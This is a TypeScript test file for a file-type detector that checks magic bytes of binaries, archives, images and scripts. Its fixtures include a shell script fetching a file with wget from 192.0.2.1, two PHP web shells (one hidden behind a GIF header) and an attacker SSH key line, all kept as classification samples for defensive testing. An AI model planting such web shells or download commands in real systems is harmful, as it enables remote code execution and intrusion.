import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { magicOf } from '../../src/store/magic.ts'

/** An ELF header up to e_machine. */
function elf(wide: 1 | 2, endian: 1 | 2, machine: number): Buffer {
  const bytes = Buffer.alloc(64)
  bytes.set([0x7f, 0x45, 0x4c, 0x46, wide, endian, 1])
  if (endian === 1) bytes.writeUInt16LE(machine, 18)
  else bytes.writeUInt16BE(machine, 18)
  return bytes
}

function pe(machine: number): Buffer {
  const bytes = Buffer.alloc(256)
  bytes.write('MZ')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80)
  bytes.writeUInt16LE(machine, 0x84)
  return bytes
}

/** A local file header of ZIP (APPNOTE 4.3.7) with a name. */
function zip(name: string): Buffer {
  return Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(20), Buffer.from(name)])
}

const text = (words: string): Buffer => Buffer.from(words)
const hex = (digits: string): Buffer => Buffer.from(digits.replaceAll(' ', ''), 'hex')

describe('the first bytes tell', () => {
  it.each<[string, Buffer]>([
    ['elf:x86-64', elf(2, 1, 62)],
    ['elf:x86', elf(1, 1, 3)],
    ['elf:mips', elf(1, 2, 8)],
    ['elf:mipsel', elf(1, 1, 8)],
    ['elf:mips64', elf(2, 2, 8)],
    ['elf:arm', elf(1, 1, 40)],
    ['elf:armeb', elf(1, 2, 40)],
    ['elf:aarch64', elf(2, 1, 183)],
    ['elf:ppc', elf(1, 2, 20)],
    ['elf:sh4', elf(1, 1, 42)],
    ['elf:m68k', elf(1, 2, 4)],
    ['elf:sparc', elf(1, 2, 2)],
    ['elf', elf(1, 1, 9999)],
    ['elf', hex('7f454c4601010100')],
    ['pe:x86-64', pe(0x8664)],
    ['pe:x86', pe(0x14c)],
    ['dos', Buffer.concat([text('MZ'), Buffer.alloc(100)])],
    ['mach-o:aarch64', hex('cffaedfe 0c000001')],
    ['mach-o:x86-64', hex('cffaedfe 07000001')],
    ['mach-o:universal', hex('cafebabe 00000002')],
    ['java-class', hex('cafebabe 00000034')],
    ['zip', zip('readme.txt')],
    ['jar', zip('META-INF/MANIFEST.MF')],
    ['apk', zip('META-INF/MANIFEST.MF AndroidManifest.xml')],
    ['ooxml', zip('[Content_Types].xml')],
    ['gzip', hex('1f8b0800')],
    ['xz', hex('fd377a585a0000')],
    ['tar', Buffer.concat([Buffer.alloc(257), text('ustar\0'), Buffer.alloc(100)])],
    ['script:sh', text('#!/bin/sh\nwget http://192.0.2.1/x\n')],
    ['script:python3', text('#!/usr/bin/env python3\nimport os\n')],
    ['script:bash', text('#! /bin/bash -x\r\n')],
    ['php', text('<?php system($_GET["c"]); ?>')],
    ['php', text('GIF89a;\n<?php eval($_POST[1]);')],
    ['html', text('\uFEFF  <!DOCTYPE html><title>x</title>')],
    ['xml', text('<?xml version="1.0"?><a/>')],
    ['pdf', text('%PDF-1.7\n')],
    ['png', hex('89504e470d0a1a0a')],
    ['jpeg', hex('ffd8ffe0')],
    ['gif', text('GIF89a')],
    ['webp', text('RIFF\x10\0\0\0WEBPVP8 ')],
    ['pjl', text('\x1b%-12345X@PJL JOB\r\n')],
    ['dicom', Buffer.concat([Buffer.alloc(128), text('DICM')])],
    ['java-serialized', hex('aced0005')],
    ['text', text('ssh-rsa AAAA… attacker@host\n')],
    ['text', text('ä'.repeat(40_000))],
    ['data', hex('00010203')],
    ['data', hex('c3 28')],
    ['empty', Buffer.alloc(0)],
  ])('%s', (type, bytes) => {
    expect(magicOf(bytes)).toBe(type)
  })

  it('something for any bytes', () => {
    const starts = fc.constantFrom('', '\x7fELF', 'MZ', '#!', 'PK\x03\x04', '\xca\xfe\xba\xbe', '\xcf\xfa\xed\xfe')
    fc.assert(
      fc.property(starts, fc.uint8Array({ maxLength: 300 }), (start, rest) => {
        expect(magicOf(Buffer.concat([Buffer.from(start, 'latin1'), rest]))).toMatch(/^[a-z0-9-]+(:[\w.+-]+)?$/)
      }),
    )
  })
})
